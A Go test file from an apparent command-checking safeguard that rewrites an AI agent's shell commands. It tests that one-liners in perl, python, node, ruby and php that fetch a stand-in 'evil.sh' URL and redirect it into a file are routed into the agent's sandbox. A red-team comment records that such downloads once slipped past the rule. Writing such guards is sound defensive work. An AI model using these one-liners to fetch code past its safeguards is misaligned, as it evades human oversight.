package rewrite

import (
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// TestCodeFetchStdout (red team 13 AQ): interpreter code that fetches a
// URL and prints what it fetched, redirected into a file, was allowed;
// its stdout is a download as curl's is, so the file now moves into the
// sandbox. Look-alikes: code that prints other text, a fetch whose
// result is not printed, a print to the terminal or into the sandbox.
func TestCodeFetchStdout(t *testing.T) {
	const u = "https://h.example/evil.sh"
	testRule(t, "http-client", []ruleCase{
		{`perl -MLWP::Simple -e 'print get("` + u + `")' > evil.sh`, Rewrite},
		{`perl -MLWP::Simple -e 'getprint("` + u + `")' > evil.sh`, Rewrite},
		{`perl -MHTTP::Tiny -e 'print HTTP::Tiny->new->get("` + u + `")->{content}' > evil.sh`, Rewrite},
		{`python3 -c 'import urllib.request as u;print(u.urlopen("` + u + `").read().decode())' > evil.sh`, Rewrite},
		{`python3 -c 'import urllib.request as u; r = u.urlopen("` + u + `"); print(r.read().decode())' >> evil.sh`, Rewrite},
		{`python3 -c 'import requests; print(requests.get("` + u + `").text)' | tee evil.sh`, Rewrite},
		{`node -e 'fetch("` + u + `").then(r=>r.text()).then(console.log)' > evil.sh`, Rewrite},
		{`node -e '(async()=>{const r=await fetch("` + u + `"); console.log(await r.text())})()' > evil.sh`, Rewrite},
		{`ruby -ropen-uri -e 'print URI.open("` + u + `").read' > evil.sh`, Rewrite},
		{`php -r 'echo file_get_contents("` + u + `");' > evil.sh`, Rewrite},
		{`{ python3 -c 'import urllib.request as u;print(u.urlopen("` + u + `").read().decode())'; } > evil.sh`, Rewrite},
		// Look-alikes.
		{`python3 -c 'print(1)' > f`, Allow},
		{`python3 -c 'import urllib.request as u; u.urlopen("` + u + `"); print("done")' > f`, Allow},
		{`node -e '(async()=>{await fetch("` + u + `"); console.log("done")})()' > f`, Allow},
		{`python3 -c 'import urllib.request as u;print(u.urlopen("` + u + `").read().decode())'`, Allow},
		{`python3 -c 'import urllib.request as u;print(u.urlopen("` + u + `").read().decode())' | jq .`, Allow},
		{`python3 -c 'import urllib.request as u;print(u.urlopen("` + u + `").read().decode())' > agent_sandbox/f`, Allow},
		{`python3 -c 'import urllib.request as u;print(u.urlopen("` + u + `").read().decode())' > /dev/null`, Allow},
		{`perl -e 'print "get(x)\n"' > f`, Allow},
		{`python3 fetch.py > f`, Allow}, // no fetch.py here: TestCodeFetchStdoutStdinAndFiles reads one on disk
	})
}

// TestCodeFetchStdoutExec runs the rewritten rows with the real
// interpreters against a loopback server: as written, the project's file
// holds the served bytes (the code is a downloader); as rewritten, the
// sandbox's does and the project's is never made. A look-alike that
// fetches and prints other text leaves only that text.
func TestCodeFetchStdoutExec(t *testing.T) {
	t.Parallel()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Skip(err)
	}
	body := "echo PWNED > /tmp/pwned"
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.Write([]byte(body)) })}
	go srv.Serve(ln)
	defer srv.Close()
	url := "http://" + ln.Addr().String() + "/evil.sh"
	tests := []struct{ prog, cmd string }{
		{"python3", `python3 -c 'import urllib.request as u;print(u.urlopen("URL").read().decode())' > evil.sh`},
		{"python3", `python3 -c 'import urllib.request as u; r = u.urlopen("URL"); d = r.read(); print(d.decode())' > evil.sh`},
		{"node", `node -e 'fetch("URL").then(r=>r.text()).then(console.log)' > evil.sh`},
		{"ruby", `ruby -ropen-uri -e 'print URI.open("URL").read' > evil.sh`},
		{"php", `php -r 'echo file_get_contents("URL");' > evil.sh`},
		{"perl", `perl -MHTTP::Tiny -e 'print HTTP::Tiny->new->get("URL")->{content}' > evil.sh`},
	}
	for _, tt := range tests {
		if _, err := exec.LookPath(tt.prog); err != nil {
			continue
		}
		for _, asRewritten := range []bool{false, true} {
			proj := t.TempDir()
			home := t.TempDir()
			sb := filepath.Join(proj, "agent_sandbox")
			cmd := strings.ReplaceAll(tt.cmd, "URL", url)
			cfg := &Config{Cwd: proj, Project: proj, Home: home, Sandbox: sb, Mode: ModeRewrite, Approve: ApproveAuto}
			r := Check(cfg, cmd)
			if r.Decision != Rewrite {
				t.Errorf("%s: %s, want rewrite (%v)", cmd, r.Decision, r.Findings)
				continue
			}
			run, where := cmd, filepath.Join(proj, "evil.sh")
			if asRewritten {
				run, where = r.Rewritten, filepath.Join(sb, "evil.sh")
				if err := os.MkdirAll(sb, 0o755); err != nil {
					t.Fatal(err)
				}
			}
			sh := exec.Command("bash", "-c", run)
			sh.Dir = proj
			sh.Env = []string{"HOME=" + home, "PATH=" + os.Getenv("PATH"), "no_proxy=*", "NO_PROXY=*"}
			if b, err := sh.CombinedOutput(); err != nil {
				t.Errorf("%s: %v\n%s", run, err, b)
				continue
			}
			if got, err := os.ReadFile(where); err != nil || strings.TrimSpace(string(got)) != body {
				t.Errorf("%s: %s holds %q (%v), want the served bytes", run, where, got, err)
			}
			if asRewritten {
				if _, err := os.Stat(filepath.Join(proj, "evil.sh")); err == nil {
					t.Errorf("%s wrote evil.sh in the project", run)
				}
			}
		}
	}
	// The look-alike: the fetch's result is not what is printed.
	if _, err := exec.LookPath("python3"); err == nil {
		proj := t.TempDir()
		cmd := `python3 -c 'import urllib.request as u; u.urlopen("` + url + `"); print("done")' > f`
		sh := exec.Command("bash", "-c", cmd)
		sh.Dir = proj
		sh.Env = []string{"HOME=" + t.TempDir(), "PATH=" + os.Getenv("PATH"), "no_proxy=*", "NO_PROXY=*"}
		if b, err := sh.CombinedOutput(); err != nil {
			t.Fatalf("%s: %v\n%s", cmd, err, b)
		}
		if got, _ := os.ReadFile(filepath.Join(proj, "f")); string(got) != "done\n" {
			t.Errorf("%s: f holds %q, want only done", cmd, got)
		}
		if d := Check(&Config{Cwd: proj, Project: proj, Home: t.TempDir(), Sandbox: filepath.Join(proj, "agent_sandbox"), Mode: ModeRewrite, Approve: ApproveAuto}, cmd).Decision; d != Allow {
			t.Errorf("%s: %s, want allow", cmd, d)
		}
	}
}
